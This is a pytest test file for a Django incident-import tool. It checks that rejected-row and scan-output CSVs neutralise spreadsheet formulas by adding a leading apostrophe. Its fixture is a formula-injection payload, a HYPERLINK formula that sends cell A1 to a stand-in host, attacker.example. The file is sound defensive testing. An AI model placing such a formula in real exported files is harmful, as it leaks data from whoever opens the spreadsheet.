"""Every CSV copps writes makes a spreadsheet formula inert (one writer, copps.files): a rejected
row or a scan result holding ``=HYPERLINK(...)`` comes out with a leading apostrophe, through the
commands that write them."""

from __future__ import annotations

import csv

import pytest
from django.core.management import call_command
from tests.incidents.test_import_messy import GOOD, denver_profile, rows, write

from copps.files import escape_cell
from copps.incidents.models import Event

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
QUOTED = '"' + LINK.replace('"', '""') + '"'  # the field as a CSV file holds it


def read(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.django_db
def test_a_rejected_row_holding_a_formula_is_written_inert(tmp_path):
    bad = f"3,not a date,,,theft-shoplift,{QUOTED},39.73,-104.99"
    path = write(tmp_path, "bad.csv", rows(GOOD[0], bad, GOOD[1]))
    call_command("import_events", str(path), profile=str(denver_profile(tmp_path)), skip_bad=True)
    got = read(tmp_path / "bad.csv.rejects.csv")
    assert [(r["line"], r["INCIDENT_ID"]) for r in got] == [("3", "3")]
    assert got[0]["INCIDENT_ADDRESS"] == "'" + LINK
    assert got[0]["GEO_LON"] == "-104.99"  # a plain number cannot be a formula: left as it is


@pytest.mark.django_db
def test_scan_output_holding_a_formula_is_written_inert(tmp_path, capsys):
    formula_rows = [f"{10 + i},1/{5 + i}/2024 10:00:00 AM,,,theft-shoplift,{QUOTED},39.73,-104.99" for i in range(3)]
    path = write(tmp_path, "f.csv", rows(*GOOD, *formula_rows))
    call_command("import_events", str(path), profile=str(denver_profile(tmp_path)))
    place = Event.objects.get(source_id="10").block_address
    assert place.startswith("=")  # the formula reached the place a scan groups by
    out = tmp_path / "places.csv"
    call_command("scan", "places", "--csv", str(out))
    got = read(out)
    assert got[0]["place"] == escape_cell(place) == "'" + place and got[0]["events"] == "3"
    assert all(not r["place"].startswith("=") for r in got)
